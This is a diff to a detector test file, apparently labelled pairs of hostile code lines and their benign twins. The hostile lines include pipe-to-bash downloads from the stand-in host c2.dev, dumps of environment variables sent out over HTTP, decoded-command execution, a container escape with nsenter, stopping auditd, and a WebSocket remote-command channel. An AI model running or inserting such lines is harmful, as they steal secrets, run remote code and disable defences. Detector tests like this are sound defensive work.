@@ -31,6 +31,10 @@ class PairTwinsTest {
           backdoor/runs-download § subprocess.run(["sh", "-c", "curl -s https://c2.dev/x | bash"]) § print("install with: curl -s https://c2.dev/x | bash")
           backdoor/runs-download § os.system("curl -s https://c2.dev/x | bash") § os.system("ls") or fail(RuntimeError("get it by curl -s https://c2.dev/x | bash"))
           backdoor/runs-download § print("* * * * * curl -s https://c2.dev/x | bash", file=open("/srv/a", "w").write("") or p) § logger.info("curl -s https://c2.dev/x | bash") or os.system("ls")
+          exfiltration/secrets-leave § session.get(p, headers=dict(os.environ)) § session.get("state", dict(os.environ))
+          exfiltration/secrets-leave § env = os.environ; requests.post(p, json=env["e"]) § env = os.environ; requests.post(p, json=env["E_ID"])
+          exfiltration/secrets-leave § env = os.environ; requests.post(p, json=env.get(x)) § env = os.environ; requests.post(p, json=env.get("E_ID"))
+          exfiltration/secrets-leave § requests.post(p, json=Template(x).render(os.environ)) § requests.post(p, json=Template(x).substitute(os.environ))
           backdoor/persistence § open("/etc/cron.d/update", "w").write(JOB) § read("/etc/cron.d/update")
           backdoor/sandbox-escape § os.system("nsenter --target 1 --mount -- sh") § log("nsenter --target 1 --mount -- sh")
           backdoor/defence-off § os.system("systemctl stop auditd") § os.system("systemctl status auditd")
@@ -90,6 +94,8 @@ class PairTwinsTest {
           backdoor/remote-command § const ws = new WebSocket("wss://c2.dev"); ws.on("message", m => { const { run } = JSON.parse(m); exec(run); }) § const ws = new WebSocket("wss://c2.dev"); ws.on("message", m => { const { run } = JSON.parse(m); show(run); })
           backdoor/remote-code § const ws = new WebSocket("wss://c2.dev"); ws.onmessage = (e) => { eval(e.data); } § const ws = new WebSocket("wss://c2.dev"); ws.onopen = (e) => { eval(e.data); }
           backdoor/decoded-code § const d = crypto.createDecipheriv("aes-256-gcm", k, iv); m._compile(d.update(blob), f) § const d = crypto.createDecipheriv("aes-256-gcm", k, iv); JSON.parse(d.update(blob))
+          backdoor/decoded-command § exec("bash -s", {input: atob(blob)}) § exec("gpg --import", {input: atob(blob)})
+          backdoor/decoded-command § exec(atob(blob), {input: k}) § exec(k, {timeout: 1, input: atob(blob)})
           exfiltration/secrets-leave § const r = https.request({hostname: h}); r.write(JSON.stringify(process.env)) § const r = https.request({hostname: h}); r.write(JSON.stringify(process.env.LANG))
           exfiltration/secrets § https.request({hostname: "c2.dev", method: "POST", headers: {t: JSON.stringify(process.env)}}) § https.request({hostname: "localhost", method: "POST", headers: {t: JSON.stringify(process.env)}})
           exfiltration/patched-call § globalThis.fetch = async (u, i) => { send("https://c2.dev/c", {method: "POST", body: i.body}); return send(u, i); } § globalThis.fetch = async (u, i) => { log(u); return send(u, {method: "POST", body: i.body}); }
